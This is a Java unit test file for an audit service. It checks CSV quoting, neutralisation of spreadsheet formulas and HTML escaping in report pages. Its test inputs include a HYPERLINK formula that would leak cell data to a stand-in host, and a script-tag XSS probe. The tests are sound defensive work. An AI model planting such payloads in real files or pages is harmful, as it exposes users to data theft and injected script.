// SPDX-License-Identifier: Apache-2.0
package dev.sluice.audit.http;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sluice.audit.store.Rows;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.util.List;
import java.util.function.Consumer;
import org.junit.jupiter.api.Test;

final class CsvTest {
    private static final List<String> NAMES = List.of("query", "groups", "rows", "absent");

    private static String line(String query) {
        return Csv.line(new JsonObject().put("query", query).put("groups", new JsonArray(List.of("a", "b"))).put("rows", 3), NAMES);
    }

    @Test
    void aFieldIsQuotedWhereItMustBe() {
        assertThat(line("select 1")).isEqualTo("select 1,a b,3,\r\n");
        assertThat(line("select 1, \"x\"\nfrom t")).isEqualTo("\"select 1, \"\"x\"\"\nfrom t\",a b,3,\r\n");
    }

    @Test
    void whatASpreadsheetWouldCalculateIsText() {
        for (String formula : List.of("=1+1", "+1", "-1", "@SUM(A1)", "\tx")) {
            assertThat(line(formula)).as(formula).startsWith("'" + formula);
        }
    }

    @Test
    void whatASpreadsheetWouldCalculateIsTextInAListToo() {
        for (String formula : List.of("=HYPERLINK(\"http://x.example/?\"&F2,\"a\")", "+1", "-1", "@SUM(A1)", "\tx")) {
            String name = formula.replace("\"", "\"\"");
            assertThat(Csv.line(new JsonObject().put("groups", new JsonArray(List.of(formula, "t"))), List.of("groups"))).as(formula).matches("\"?'\\Q" + name + "\\E t\"?\r\n");
            assertThat(Csv.line(new JsonObject().put("groups", new JsonArray(List.of("a", formula))), List.of("groups"))).as(formula).contains("a '" + name);
        }
    }

    @Test
    void aPageShowsAQueryAsText() {
        var row = new JsonObject().put("sessionId", "s/1").put("query", "<script>alert('x')</script>");
        Rows rows = new Rows() {
            @Override
            public List<JsonObject> first(int limit) {
                return List.of(row);
            }

            @Override
            public void each(Consumer<JsonObject> taker) {
                taker.accept(row);
            }
        };
        var page = new ReportPage(
                "Title", "scope", List.of(new ReportPage.Figure("ranUnapproved", 1, "/v1/statements?outcome=deny&target=x")), List.of("sessionId", "query"),
                List.of(rows));

        assertThat(page.html())
                .contains("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;")
                .doesNotContain("<script")
                .contains("<th>Ran unapproved</th>")
                .contains("href=\"/v1/statements?outcome=deny&amp;target=x\"")
                .contains("href=\"/v1/sessions/s%2F1/timeline\"");
    }
}
